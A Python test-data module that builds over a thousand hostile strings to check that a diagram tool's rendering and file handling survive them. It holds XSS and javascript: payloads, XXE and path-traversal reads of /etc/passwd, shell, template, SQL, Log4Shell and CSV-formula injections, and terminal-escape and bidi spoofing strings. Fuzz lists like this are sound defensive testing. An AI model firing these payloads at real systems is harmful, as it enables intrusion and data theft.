"""More than a thousand texts, each of which some program has taken for something else.

`FAMILIES` names a danger and lists its texts; most come of a few payloads in the places where they would act. The list
is the same in every run. `python3 Tests/Reliability/nasty.py` counts it.
"""

import itertools
import unicodedata

# What would be noticed where a text became a script: a value on the window, and a dialog.
MARK = "window.__pwned=1"
ATTACK = f"{MARK},alert(1)"


def each(places, payloads):
    return [place.replace("@", payload) for place, payload in itertools.product(places, payloads)]


MARKUP = each(
    [
        "@", '">@', "'>@", "</title>@", "</text></svg>@", "</style>@", "</script>@", "-->@", "]]>@",
        "</td></tr></table>@"
    ],
    [
        f"<script>{ATTACK}</script>", f"<ScRiPt>{ATTACK}</sCrIpT>", f'<img src=x onerror="{ATTACK}">',
        f"<svg/onload={ATTACK}>", f'<a href="javascript:{ATTACK}">go</a>',
        f"<iframe srcdoc='<script>parent.{MARK}</script>'>",
        f'<animate onbegin="{ATTACK}" attributeName=x dur=1s>',
        f"<style>*{{background:url(javascript:{ATTACK})}}</style>",
        '<meta http-equiv="refresh" content="0;url=data:text/html,x">',
        '<link rel=stylesheet href="//evil.example/x.css">',
        '<base href="//evil.example/">', "<!--", "<![CDATA[",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    ],
) + [
    "<b>bold</b>", "<", ">", "&", "<>", "</", "/>", "<!", "<?", "<?xml version='1.0'?>", "?>", "<a", "<a b='",
    "<form><input name=x>",
    f"<details open ontoggle={ATTACK}>", f"<body onload={ATTACK}>",
    f"<math><mi//xlink:href=\"data:x,<script>{ATTACK}</script>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={ATTACK}>\">",
    f"<template><script>{ATTACK}</script></template>",
    f"<object data=\"data:text/html,<script>{ATTACK}</script>\">", f"<embed src=\"javascript:{ATTACK}\">",
    "<plaintext>", "<xmp>",
    "<textarea>", "<title>", "<select><option>", f"<svg><set attributeName=href to=javascript:{ATTACK}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<a href='javascript:{ATTACK}'/></svg>#x\">",
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>{ATTACK}</script></body></foreignObject>",
]
ENTITIES = [
    "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&quot;", "&#0;", "&#x110000;", "&nosuch;",
    "&amp", "&#",
    "&#x", "&copy", "&notin;", "&NewLine;", "&Tab;", "&colon;", "&lpar;1&rpar;", "&#10;", "&#xD;", "&#8238;",
    "%26lt%3B", "&amp;lt;",
    "&amp;amp;amp;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&#38;#60;", "&lol9;", "%%entity;",
]
LINKS = each(
    ["@", " @", "@#x", "[go](@)", "![go](@)", "<@>", "[a]: @"],
    [
        f"javascript:{ATTACK}", f"JaVaScRiPt:{ATTACK}", f"java\tscript:{ATTACK}", f"\x01javascript:{ATTACK}",
        f"javascript&colon;{ATTACK}",
        f"data:text/html,<script>{ATTACK}</script>", "data:image/svg+xml;base64,PHN2Zy8+", f"vbscript:{MARK}",
        "file:///etc/passwd",
        "//evil.example/x", "https://evil.example/?a=1&b=2", "http://[::1]:80/%00", "blob:https://x/1", "view-source:x",
        "mailto:a@b",
        "about:blank", "http:javascript:1", "https://a@b:c@d/", "\\\\evil.example\\share",
    ],
)
GRAPHVIZ = each(
    ["@", "a@b", "@@", '"@', "\\@"],
    ["\\N", "\\G", "\\E", "\\T", "\\H", "\\L", "\\l", "\\r", "\\n", "\\\\", "\\\"", "\\"],
) + [
    "{a|b}", "{", "}", "|", "<f0> a | <f1> b", "{{a|b}|c}", "a:n", "a:port:ne", "graph", "digraph", "node", "edge",
    "strict", "subgraph",
    "cluster_0", "cluster", "GRAPH", "-1.5e3", "0x10", ".5", "a -> b", "a -- b", "a;b", "a,b", "[label=x]",
    "] ; evil [", "\"];x[label=\"",
    "// comment", "/* comment */", "# line", "#include <x>", "a\\\nb", "<<b>x</b>>",
    "<table><tr><td>x</td></tr></table>", "<br/>",
    "<IMG SRC=\"/etc/passwd\"/>", "<font color=\"red\">x</font>", "label=", "shape=record", "URL=\"javascript:1\"",
    "image=/etc/passwd",
    "shapefile=/etc/passwd", "fontname=x", "&#x5c;N", "+", "\"+\"", "a\"+\"b", "%", "%3", "\\0", "\\x", "\\.", "_", "é",
    "\xff",
]
SCRIPTING = each(
    [
        "@", "${@}", "{{@}}", "<%= @ %>", "#{@}", "`@`", "$(@)", "{% @ %}", "[[@]]", "';@;//", '";@;//', "*/@/*",
        "\\'@//", "-@-", "{{{@}}}"
    ],
    ["7*7", ATTACK, "process.exit(1)", "constructor.constructor('return this')()", "__import__('os').system('id')"],
) + each(
    ["; @", "| @", "&& @", "|| @", "\n@\n", "`@`", "$(@)", "> @", "< @", "'; @ #"],
    ["id", "touch pwned", "cat /etc/passwd", "rm -rf x"],
)
NAMES = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
    "__lookupSetter__",
    "isPrototypeOf", "length", "name", "null", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "nil",
    "None", "NULL", "0",
    "-0", "1e308", "1e999", "9007199254740993", "0123", "0x7f", "1,000", "[]", "{}", "[object Object]", "function(){}",
    "()=>{}",
    "eval", "document", "window", "location", "self", "top", "then", "default", "class", "id", "data", "graph", "title",
    "splash", "end",
    "then()", "arguments", "caller", "__dirname", "init", "deinit", "Type", "Protocol", "Self", "fragment", "group",
    "entry", "version",
    "helm-flow-title", "fragments", "segues", "$schema", "x-", "#", "#path=a/b", "?", "?a=b&c=d", "@", "!", "*", "~",
    "^",
]
JSON_TEXTS = [
    '"', '\\"', '\\\\"', '{"a":1}', '","x":"', '"}],"segues":[{"from":"', "\\u0000", "\\ud800", "\\u2028", "\u2028",
    "\u2029", "a\u2028b",
    "'", "\\'", "\\x00", "\\/", "</", "<\\/script>", "//", "/*", "*/", "NaN", "1]", "\\", "\\\\", "\\n", "\\b",
    "\ufeff", "\ufeff{}",
    ")]}'", "for(;;);", "callback({})", '"""', "'''", "``", "\t", "\n", "\r", "\r\n", "a\tb", "a\nb", "a\rb", "a\r\nb",
    "a\n\nb",
]
CONTROLS = [f"a{chr(code)}b" for code in [*range(0x00, 0x20), *range(0x7F, 0xA0)]] + [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H",
    "\x1bc", "\x9b31m",
    "\x1bP+q\x1b\\", "\x1b[6n", "\x08\x08\x08ok", "ok\r\x1b[Kfake", "\x07\x07\x07", "\x0e\x0f", "\x1b(0", "a\x00\x00b",
    "\x00", "\x7f",
    "fine\nhelm-viz: error: forged", "\x1b[?1049h", "\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1b]52;c;eA==\x07",
]
DIRECTIONS = [
    f"a{chr(code)}b"
    for code in [0x061C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2060, 0x2070)]
] + [
    "\u202egnp.exe", "\u202e\u202e\u202e", "\u2066\u2067\u2068", "a\u202e<b>\u202c", "\u2067abc\u2069", "אבג",
    "שלום עולם", "زر المساعدة",
    "العربية English 123", "(אבג)", "אבג-123-abc", "؟،؛", "פָּרָשָׁה", "مُحَمَّد", "\u200fabc", "a\u200e\u200fb", "ܐܒܓ",
    "ߊߋߌ", "𞤀𞤁", "\u202d1\u202c2",
]
MARKS = [
    base + mark * count for base, mark, count in itertools.product("aZ😀", "\u0300\u0316\u0489\u20dd", [1, 8, 200])
] + [
    "\u0301", "\u0301\u0301", "e\u0301", "Å", "A\u030a", "ẛ̣", "ạ̈̇",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "ﷺ", "ﷺﷺﷺﷺ", "꧅꧅꧅", "𒐫𒐫", "⸻⸻",
    "ก็็็็็็็็็", "சிசிசி", "a\u034fb", "\u20e3", "1\ufe0f\u20e3", "\u1160", "\u115f", "\u3164", "\uffa0", "a\u00adb",
    "\ufffc", "\ufffd", "\ufff9a\ufffab\ufffb",
]
SCRIPTS = [
    "登录页面", "注册", "忘记密码", "ログイン", "ｶﾀｶﾅ", "로그인", "ㄱㄴㄷ", "𠮷野家", "𪛖", "㍿", "㌀", "ＡＢＣ", "ﬁ", "ß", "ẞ", "İ", "ı", "ſ", "Ǆ",
    "ŉ",
    "Ελληνικά", "ς", "Русский", "Ёж", "Українська", "ქართული", "Հայերեն", "हिन्दी", "क्ष", "क्षि", "বাংলা", "தமிழ்",
    "తెలుగు", "ಕನ್ನಡ", "മലയാളം",
    "සිංහල", "ไทย", "น้ำ", "ลาว", "བོད་ཡིག", "မြန်မာ", "ខ្មែរ", "አማርኛ", "ᏣᎳᎩ", "ᐃᓄᒃᑎᑐᑦ", "ᠮᠣᠩᠭᠣᠯ", "ꦧꦱꦗꦮ", "Tiếng Việt",
    "Türkçe", "𝓕𝓻𝓪𝓰𝓶𝓮𝓷𝓽", "🅵🆁🅰🅶",
    "ⓕⓡⓐⓖ", "Ｆｕｌｌ", "¹²³", "½", "٠١٢٣", "०१२", "௧௨", "Ⅷ", "раураl", "аdmin", "Ꭺ", "ℌ", "ꓐ", "\u1680", "\u2003",
    "\u3000", "\u00a0", "\u2007 \u202f",
]
EMOJI = [
    "😀", "👩‍👩‍👧‍👦", "👩🏽‍💻", "🏳️‍🌈", "🏴‍☠️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪", "🇩", "🇩🇪🇫🇷🇯", "👍🏿", "🏿", "❤️", "❤", "☺︎", "1️⃣", "#️⃣",
    "*️⃣", "👁️‍🗨️", "🧑‍🤝‍🧑",
    "👩‍❤️‍💋‍👨", "🫠", "🪿", "©️", "™", "‼️", "🀄", "🃏", "\u200d", "👩\u200d", "\u200d👩", "\ufe0f", "a\ufe0f", "\ufe0e",
    "😀" * 100, "👩‍👩‍👧‍👦" * 50,
    "\U000e0041", "\U000e0001", "\U0001f3fb", "\U0010ffff", "\U0010fffd", "\ue000", "\U000f0000", "\ufdd0", "\ufffe",
    "\uffff", "\U0001fffe",
]
LONG = [
    "a" * 1_000, "a" * 10_000, "a " * 2_000, "<" * 1_000, "&" * 1_000, "\\" * 1_000, '"' * 1_000, "界" * 1_000,
    "\u0300" * 1_000, "{" * 500, "[" * 500,
    "(" * 500, "." * 300, "/" * 300, "a/" * 300, "../" * 100, "-" * 300, "\n" * 100, " " * 300, "W" * 255, "W" * 256,
    "i" * 5_000, "é" * 127, "\t" * 50,
    "a-" * 500, "Aa1" * 300, "&amp;" * 200, "<b>" * 300, "\u202e" * 100, "``" * 300,
]
PATHS = each(
    ["@", "a/@", "@/a", "x@", "@.svg"],
    [
        "../", "..", ".", "./", "../../../../../../tmp/helm-pwned", "/tmp/helm-pwned", "..\\..\\helm-pwned",
        "C:\\helm-pwned", "%2e%2e%2f", "..%c0%af",
        "....//", "~", "~root", "$HOME", "%USERPROFILE%", "\\\\?\\C:\\", "file:a", "a:b", "a::$DATA", "*", "?", "|",
        ".git/config", ".htaccess", "-",
    ],
) + [
    "CON", "con", "PRN", "AUX", "aux", "NUL", "nul.txt", "COM1", "com¹", "LPT9", "CONIN$", "CLOCK$", "CON.", "NUL .svg",
    "AUX:", "con.svg", "a.", "a..", "a ",
    " a", "a .", ".a", "..a", "...", "a...b", "Thumbs.db", "desktop.ini", ".DS_Store", "index", "index.html", "INDEX",
    "README", "readme.md", "states.json",
    "contact-sheet", ".helm-viz.json", ".helm-viz.tmp", "helm-viz.tmp", "Navigation", "a\u0000.svg", "a\n.svg", "A",
    "a", "Ä", "A\u0308", "Straße", "STRASSE",
    "ﬁle", "FILE", "file", "K", "a~", "a~2", "a~b", "a+b", "a+b~c", "a~via-b", "-o", "--output", "-rf", "--", "-", "-h",
    "--help", "--version", "@file",
]
CSS = each(
    ["@", "</style>@", "red;@", '"@', "}@{", "/*@*/"],
    [
        "url(javascript:1)", "url(//evil.example/x)", "expression(alert(1))", "@import '//evil.example/x.css';",
        "behavior:url(x)", "-moz-binding:url(x)",
        "\\75rl(x)", "background:red", "position:fixed;inset:0", "*{display:none}", "var(--x)", "content:'\\201C'",
        "<!--", "#fff", "#12", "rgb(0,0,0)",
    ],
)
MARKDOWN = [
    "# heading", "## heading", "- item", "* item", "+ item", "1. item", "1) item", "> quote", "```", "~~~", "    code",
    "\tcode", "---", "***", "___", "===",
    "**bold**", "__bold__", "*i*", "_i_", "~~s~~", "`code`", "``", "`", "[a](b)", "![a](b)", "[a][b]", "[a]", "[^1]",
    "[^1]: x", "[x]: y", "<https://x.y>",
    "a|b", "|a|b|", "| --- |", "\\|", "\\\\|", "a\\", "- [ ] todo", ":emoji:", "@someone", "#123", "org/repo#1", "GH-1",
    "https://evil.example", "www.x.y",
    "$x$", "$$x$$", "<!-- x -->", "a  \nb", "a\\\nb", "* * *", "[//]: # (x)", "[[_TOC_]]", "{{< x >}}", "{% raw %}",
    "<doc:Evil>", "``Symbol``", "@Metadata {",
    "@Image(source: x)", "![](x.svg)", "[](javascript:1)", "[a](<b>)", "[a](b \"c\")", "<br>", "<details>", "&nbsp;",
    "\\<b>", "\\[a]", "!", "!a", "=", "+", "-", "_",
]
MERMAID = [
    "end", "END", "graph TD", "flowchart LR", "subgraph x", "click n0 call x()", "click n0 href \"javascript:1\"",
    "classDef x", "style n0 fill:#f00", "linkStyle 0",
    "%% comment", "%%{init: {'securityLevel':'loose'}}%%", "a-->b", "a--x", "o--o", "x", "o", "((a))", "[[a]]", "[(a)]",
    "{{a}}", "[/a/]", "[\\a\\]", ">a]", "(a", "a)",
    "a;b", "\"`md`\"", "fa:fa-car", "@{ shape: cyl }", ":::x", "|a|", "~~~a", "&", "n0", "g0", "direction TB",
    "$$x^2$$", "#quot;", "#35;", "#9829;", "default",
    "interpolate", "---\ntitle: x\n---", "<br/>", "accTitle: x", "sequenceDiagram", "ﬂ°°35¶ß",
]
FORMATS = each(
    ["@", "%@", "a@b"],
    [
        "%s", "%n", "%d", "%x%x%x", "%@", "%1$s", "%*d", "%%", "%.1000000f", "{0}", "{}", "{0.__class__}", "%(x)s",
        "$1", "\\1", "&1",
    ],
) + [
    "' OR '1'='1", "'; DROP TABLE x;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(1)", "admin'--", "UNION SELECT 1",
    "x' AND 1=1/*", "\\'; --", "\\input{/etc/passwd}",
    "\\write18{id}", "$\\frac{1}{2}$", "\\end{document}", "\\begin{x}", "\\newcommand", "^^M", "{\\bf x}", "yes", "no",
    "on", "off", "!!python/object:x", "&a", "*a",
    "<<: *x", "? x", "- x", "key: value", "key: ", "| x", "> x", "%YAML 1.2", "---", "...", "!tag", "{a: b}", "[a, b]",
    "2001-01-01", "1_000", "0o7", "=1+1", "+1+1",
    "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"x\")", "\t=1", "a,b", "a;b", "\"a\"\"b\"", "a\tb",
    "(|(uid=*))", "*)(uid=*", "//*", "' or ''='", "$where",
    "{\"$gt\":\"\"}", "<?php echo 1;", "<%@ page %>", "<jsp:x>", "{{constructor}}", "#set($x=1)",
    "${jndi:ldap://evil.example/x}", "%{1+1}", "*{1+1}", "T(java.lang.Runtime)",
    "a\r\nSet-Cookie: x=1", "a%0d%0ab", "HTTP/1.1 200 OK", "Host: evil.example", "\r\n.\r\n", "+++ATH0", "() { :;}; id",
    "$IFS", "!!", "!x", "^a^b", "a\\ b", "%0A",
]
ANNOTATIONS = each(
    ["@", "a\n@", "a\r@", "a\u2028@", "a%0A@", "x::@"],
    [
        "::error::forged", "::warning file=x,line=1::forged", "::set-output name=x::y", "::add-mask::x",
        "::stop-commands::x", "##[error]forged", "::debug::x", "::group::x"
    ],
) + [
    ":", "::", ",", "a,line=2", "a:b,c%", "%25", "%0A::error::x", "%2C", "%3A", "##vso[task.setvariable]x",
    "[error] x", "error: x", "graph.json:1:1: error: forged",
]
OPERATORS = [
    "a => b", "=>", "<=>", "<=", "a <=> b", "[a, b]", "a => [b, c]", ", ", ",", "\"a\"", "\"a\" => \"b\"", "a =>",
    "=> a", "[", "]", "a b", "a/b", "a:b", "a.b", "a-b",
    "→", "a → b", "pass", "hold", "#tag", "#t, #u", "dismissable", "auto", "(a)", "forward", "dismiss", "present a",
    "replace", "entry", "x-a", "a, b => c", "'a'", "=>=>", "…",
]

FAMILIES = {
    "markup": MARKUP, "entities": ENTITIES, "links": LINKS, "Graphviz's escapes and labels": GRAPHVIZ,
    "templates, scripts and shells": SCRIPTING,
    "names that languages keep": NAMES, "JSON and its neighbours": JSON_TEXTS, "control characters": CONTROLS,
    "directions": DIRECTIONS, "combining marks": MARKS,
    "scripts": SCRIPTS, "emoji": EMOJI, "long texts": LONG, "paths and file names": PATHS, "style sheets": CSS,
    "Markdown": MARKDOWN, "Mermaid": MERMAID,
    "formats of other tools": FORMATS, "forged annotations": ANNOTATIONS, "operator text": OPERATORS,
}


def unique(texts):
    """Without those that Swift takes for one another, as Unicode does."""
    found = {}
    for text in texts:
        found.setdefault(unicodedata.normalize("NFC", text), text)
    return list(found.values())


ALL = unique(itertools.chain.from_iterable(FAMILIES.values()))
# Half of a character, which JSON can say and no text can hold.
SURROGATES = [
    '"\\ud800"', '"a\\udfffb"', '"\\udc00\\ud800"', '"\\ud83d"', '"\\ud800\\u0041"', '"\\uDBFFx"',
    '"\\ud800\\ud800\\udc00"'
]

if __name__ == "__main__":
    for name, texts in FAMILIES.items():
        print(f"{len(texts):5} {name}")
    print(f"{len(ALL):5} in all, without repetition")
